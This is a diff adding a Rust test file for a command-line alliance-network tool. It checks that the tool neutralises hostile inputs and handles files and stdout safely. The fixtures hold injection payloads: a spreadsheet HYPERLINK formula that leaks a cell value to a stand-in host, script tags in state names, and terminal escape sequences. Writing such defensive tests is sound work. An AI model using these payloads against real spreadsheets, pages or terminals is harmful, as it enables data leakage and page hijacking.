@@ -1,0 +1,272 @@
+//! Issue 25: the adversarial pass's findings, each reproduced on a small hostile input: formula
+//! injection into CSV, hostile names in pages, files the user may not write, unbounded memory,
+//! values changed on the way out, silent choices, wrong messages and leftovers.
+
+use crate::common::{pactnet, show, with_inputs, MEMBER_HEADER};
+
+/// A COW list whose abbreviation and name are spreadsheet formulas and page-breaking markup.
+const HOSTILE_STATES: &str = "stateabb,ccode,statenme,styear,stmonth,stday,endyear,endmonth,endday,version
+@US,2,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",1816,1,1,2016,12,31,2016
+UKG,200,<!--<script>,1816,1,1,2016,12,31,2016
+FRN,220,</script><script>document.title='owned'</script>,1816,1,1,2016,12,31,2016
+RUS,365,Russia,1816,1,1,2016,12,31,2016
+";
+
+/// 1001: USA–UKG–FRN defense 1900–1910; 1002: UKG–RUS nonaggression 1950–0.
+const ROWS: &str = "1001,2,1900,1,1,1910,1,1,1,1,0,0,0,0
+1001,200,1900,1,1,1910,1,1,1,1,0,0,0,0
+1001,220,1900,1,1,1910,1,1,1,1,0,0,0,0
+1002,200,1950,1,1,0,,,1,0,0,0,1,0
+1002,365,1950,1,1,0,,,1,0,0,0,1,0
+";
+
+/// A temporary directory with the hostile states and `rows`.
+pub fn hostile(rows: &str) -> tempfile::TempDir {
+    let dir = tempfile::tempdir().expect("temp dir");
+    std::fs::write(dir.path().join("states.csv"), HOSTILE_STATES).expect("write states");
+    std::fs::write(dir.path().join("members.csv"), format!("{MEMBER_HEADER}\n{rows}")).expect("write members");
+    dir
+}
+
+fn stdout(o: &std::process::Output) -> String {
+    String::from_utf8_lossy(&o.stdout).into_owned()
+}
+
+/// Every CSV field of `text` that a spreadsheet would run as a formula.
+fn live_formulas(text: &str) -> Vec<String> {
+    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
+    let mut found = Vec::new();
+    for record in reader.records() {
+        for field in record.expect("CSV").iter() {
+            let number = field.parse::<f64>().is_ok_and(f64::is_finite);
+            if field.starts_with(['=', '+', '-', '@', '\t', '\r']) && !number {
+                found.push(field.to_string());
+            }
+        }
+    }
+    found
+}
+
+#[test]
+fn issue25_no_formula_reaches_a_csv_cell_of_any_command() {
+    let dir = hostile(ROWS);
+    let commands: [&[&str]; 7] = [
+        &["snapshot", "--year", "1905", "--nodes"],
+        &["metrics", "--level", "node", "--years", "1905"],
+        &["blocs", "--years", "1905"],
+        &["reach", "2", "--year", "1905"],
+        &["state", "2"],
+        &["state", "2", "--by-year"],
+        &["export", "alliances"],
+    ];
+    for args in commands {
+        let mut full = with_inputs(args);
+        full.extend(["--format", "csv"]);
+        let o = pactnet(dir.path(), &full);
+        assert!(o.status.success(), "{args:?}: {}", show(&o));
+        let text = stdout(&o);
+        assert_eq!(live_formulas(&text), Vec::<String>::new(), "{args:?}:\n{text}");
+    }
+    // The guarded cells read back as the text with a leading quote; --raw-csv gives the bytes.
+    let o = pactnet(dir.path(), &with_inputs(&["snapshot", "--year", "1905", "--nodes", "--format", "csv"]));
+    assert!(stdout(&o).contains("2,'@US,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",2\n"), "{}", show(&o));
+    let o =
+        pactnet(dir.path(), &with_inputs(&["snapshot", "--year", "1905", "--nodes", "--format", "csv", "--raw-csv"]));
+    assert!(stdout(&o).contains("2,@US,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",2\n"), "{}", show(&o));
+    // JSON is not for spreadsheets: the values as they are.
+    let o = pactnet(dir.path(), &with_inputs(&["snapshot", "--year", "1905", "--nodes", "--format", "json"]));
+    let rows: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON");
+    assert_eq!(rows[0]["abbr"], "@US");
+}
+
+#[test]
+fn issue25_the_reports_tables_are_spreadsheet_safe() {
+    let dir = hostile(ROWS);
+    let o = pactnet(
+        dir.path(),
+        &with_inputs(&[
+            "report",
+            "-o",
+            "rep",
+            "--years",
+            "1900..1910",
+            "--network-years",
+            "1905",
+            "--width",
+            "300",
+            "--height",
+            "200",
+        ]),
+    );
+    assert!(o.status.success(), "{}", show(&o));
+    for name in ["node_metrics.csv", "blocs.csv", "graph_metrics.csv", "blocs_summary.csv", "closure.csv"] {
+        let text = std::fs::read_to_string(dir.path().join("rep").join(name)).expect("written");
+        assert_eq!(live_formulas(&text), Vec::<String>::new(), "{name}:\n{text}");
+    }
+    let nodes = std::fs::read_to_string(dir.path().join("rep/node_metrics.csv")).expect("written");
+    assert!(nodes.contains(",'@US,"), "{nodes}");
+}
+
+/// `state MEX --format json` turned partner `U S` into `"U","S"` and `007` into 7.
+#[test]
+fn issue25_json_lists_hold_the_values_as_they_are() {
+    let states = "stateabb,ccode,statenme,styear,stmonth,stday,endyear,endmonth,endday,version
+U S,2,United States of America,1816,1,1,2016,12,31,2016
+007,200,United Kingdom,1816,1,1,2016,12,31,2016
+MEX,70,Mexico,1816,1,1,2016,12,31,2016
+";
+    let dir = tempfile::tempdir().expect("temp dir");
+    std::fs::write(dir.path().join("states.csv"), states).expect("write");
+    let rows = "1001,2,1900,1,1,1910,1,1,1,1,0,0,0,0\n1001,200,1900,1,1,1910,1,1,1,1,0,0,0,0\n1001,70,1900,1,1,1910,1,1,1,1,0,0,0,0\n";
+    std::fs::write(dir.path().join("members.csv"), format!("{MEMBER_HEADER}\n{rows}")).expect("write");
+    let o = pactnet(dir.path(), &with_inputs(&["state", "MEX", "--format", "json"]));
+    assert!(o.status.success(), "{}", show(&o));
+    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("JSON");
+    assert_eq!(v[0]["partners"], serde_json::json!(["U S", "007"]), "{}", show(&o));
+}
+
+/// Terminal escape sequences in a state's name are shown escaped in `--format table`.
+#[test]
+fn issue25_tables_show_terminal_escapes_escaped() {
+    let states = "stateabb,ccode,statenme,styear,stmonth,stday,endyear,endmonth,endday,version
+USA,2,\"\u{1b}]0;owned\u{7}\u{1b}[31mRed\",1816,1,1,2016,12,31,2016
+UKG,200,United Kingdom,1816,1,1,2016,12,31,2016
+";
+    let dir = tempfile::tempdir().expect("temp dir");
+    std::fs::write(dir.path().join("states.csv"), states).expect("write");
+    let rows = "1001,2,1900,1,1,1910,1,1,1,1,0,0,0,0\n1001,200,1900,1,1,1910,1,1,1,1,0,0,0,0\n";
+    std::fs::write(dir.path().join("members.csv"), format!("{MEMBER_HEADER}\n{rows}")).expect("write");
+    let o = pactnet(dir.path(), &with_inputs(&["snapshot", "--year", "1905", "--nodes", "--format", "table"]));
+    assert!(o.status.success(), "{}", show(&o));
+    let text = stdout(&o);
+    assert!(!text.contains('\u{1b}') && !text.contains('\u{7}'), "{text:?}");
+    assert!(text.contains("\\u{1b}]0;owned\\u{7}\\u{1b}[31mRed"), "{text}");
+}
+
+/// A report that fails half-way (here: its last file cannot be written) leaves nothing new: no
+/// table of it, and no directory when it made the directory.
+#[test]
+fn issue25_a_failed_report_leaves_nothing_new() {
+    let dir = hostile(ROWS);
+    let rep = dir.path().join("rep");
+    std::fs::create_dir_all(rep.join("index.html")).expect("a directory where the page goes");
+    std::fs::write(rep.join("notes.txt"), "mine").expect("write");
+    let args = with_inputs(&[
+        "report",
+        "-o",
+        "rep",
+        "--years",
+        "1900..1910",
+        "--network-years",
+        "1905",
+        "--width",
+        "300",
+        "--height",
+        "200",
+    ]);
+    let o = pactnet(dir.path(), &args);
+    assert_eq!(o.status.code(), Some(1), "{}", show(&o));
+    assert!(String::from_utf8_lossy(&o.stderr).contains("index.html: cannot write: it is a directory"), "{}", show(&o));
+    let mut left: Vec<String> = std::fs::read_dir(&rep)
+        .expect("kept")
+        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
+        .collect();
+    left.sort();
+    assert_eq!(left, ["index.html", "notes.txt"]);
+}
+
+/// Runs pactnet as the unprivileged user `nobody` (setpriv) in `dir`.
+#[cfg(unix)]
+fn pactnet_as_nobody(dir: &std::path::Path, args: &[&str]) -> std::process::Output {
+    std::process::Command::new("setpriv")
+        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
+        .arg(env!("CARGO_BIN_EXE_pactnet"))
+        .args(args)
+        .current_dir(dir)
+        .output()
+        .expect("setpriv runs")
+}
+
+/// As an unprivileged user, `-o` onto a root-owned file of mode 0444 or 0644 in a world-writable
+/// folder was replaced (and changed owner). It is refused now, as the shell's `>` would be, the
+/// file left as it was; a file the user owns is still replaced, keeping its mode.
+#[cfg(unix)]
+#[test]
+#[cfg_attr(not(pactnet_root), ignore = "needs root and setpriv to run as an unprivileged user")]
+fn issue25_a_file_the_user_may_not_write_is_not_replaced() {
+    use std::os::unix::fs::{MetadataExt, PermissionsExt};
+    let dir = crate::common::inputs("1001,2,1900,1,1,1910,1,1,1,1,0,0,0,0\n1001,200,1900,1,1,1910,1,1,1,1,0,0,0,0\n");
+    let path = dir.path();
+    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o1777)).expect("chmod");
+    for f in ["members.csv", "states.csv"] {
+        std::fs::set_permissions(path.join(f), std::fs::Permissions::from_mode(0o644)).expect("chmod");
+    }
+    for mode in [0o444, 0o644] {
+        let target = path.join(format!("root-{mode:o}.csv"));
+        std::fs::write(&target, "root's\n").expect("write");
+        std::fs::set_permissions(&target, std::fs::Permissions::from_mode(mode)).expect("chmod");
+        let name = target.file_name().and_then(|n| n.to_str()).expect("name").to_string();
+        let o = pactnet_as_nobody(path, &with_inputs(&["-q", "snapshot", "--year", "1905", "-o", &name]));
+        assert_eq!(o.status.code(), Some(1), "{}", show(&o));
+        let stderr = String::from_utf8_lossy(&o.stderr);
+        assert!(stderr.contains(&format!("{name}: cannot write: you may not write this file")), "{}", show(&o));
+        let meta = std::fs::metadata(&target).expect("still there");
+        assert_eq!((meta.uid(), meta.mode() & 0o777), (0, mode));
+        assert_eq!(std::fs::read_to_string(&target).expect("read"), "root's\n");
+        // No temporary left behind.
+        let temporaries = std::fs::read_dir(path)
+            .expect("list")
+            .filter(|e| e.as_ref().is_ok_and(|e| e.file_name().to_string_lossy().starts_with(".pactnet-")))
+            .count();
+        assert_eq!(temporaries, 0);
+    }
+    // nobody's own file (mode 0640) is replaced and keeps its owner and mode.
+    let own = path.join("own.csv");
+    std::fs::write(&own, "old\n").expect("write");
+    std::os::unix::fs::chown(&own, Some(65534), Some(65534)).expect("chown");
+    std::fs::set_permissions(&own, std::fs::Permissions::from_mode(0o640)).expect("chmod");
+    let o = pactnet_as_nobody(path, &with_inputs(&["-q", "snapshot", "--year", "1905", "-o", "own.csv"]));
+    assert!(o.status.success(), "{}", show(&o));
+    let meta = std::fs::metadata(&own).expect("there");
+    assert_eq!((meta.uid(), meta.mode() & 0o777), (65534, 0o640));
+    assert_eq!(std::fs::read_to_string(&own).expect("read"), "a,b,weight,atopids\n2,200,1,1001\n");
+}
+
+/// `-o -` is stdout (it wrote a file named `-`); a write to a closed stdout (`info >&-`) is an
+/// error, exit 1 (it exited 0 having written nothing); `>/dev/null` still discards quietly.
+#[cfg(unix)]
+#[test]
+fn issue25_dash_is_stdout_and_a_closed_stdout_is_an_error() {
+    let dir = hostile(ROWS);
+    let o = pactnet(dir.path(), &with_inputs(&["-q", "snapshot", "--year", "1905", "-o", "-"]));
+    assert!(o.status.success(), "{}", show(&o));
+    assert_eq!(stdout(&o), "a,b,weight,atopids\n2,200,1,1001\n2,220,1,1001\n200,220,1,1001\n");
+    assert!(!dir.path().join("-").exists());
+    let closed = |args: &[&str]| {
+        let mut command = String::from("exec \"$0\"");
+        for (k, _) in args.iter().enumerate() {
+            command.push_str(&format!(" \"${}\"", k + 1));
+        }
+        command.push_str(" >&-");
+        std::process::Command::new("sh")
+            .arg("-c")
+            .arg(command)
+            .arg(env!("CARGO_BIN_EXE_pactnet"))
+            .args(args)
+            .current_dir(dir.path())
+            .output()
+            .expect("sh runs")
+    };
+    let sheet = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/codesheets/4255.txt");
+    for args in [&["info"][..], &["snapshot", "--year", "1905"], &["codesheet", sheet], &["completions", "bash"]] {
+        let o = closed(args);
+        assert_eq!(o.status.code(), Some(1), "{args:?}: {}", show(&o));
+        assert!(String::from_utf8_lossy(&o.stderr).contains("cannot write to stdout: it is closed"), "{}", show(&o));
+    }
+    let o = std::process::Command::new("sh")
+        .args(["-c", "exec \"$0\" -q info >/dev/null"])
+        .arg(env!("CARGO_BIN_EXE_pactnet"))
+        .output()
+        .expect("sh runs");
+    assert!(o.status.success(), "{}", show(&o));
+}
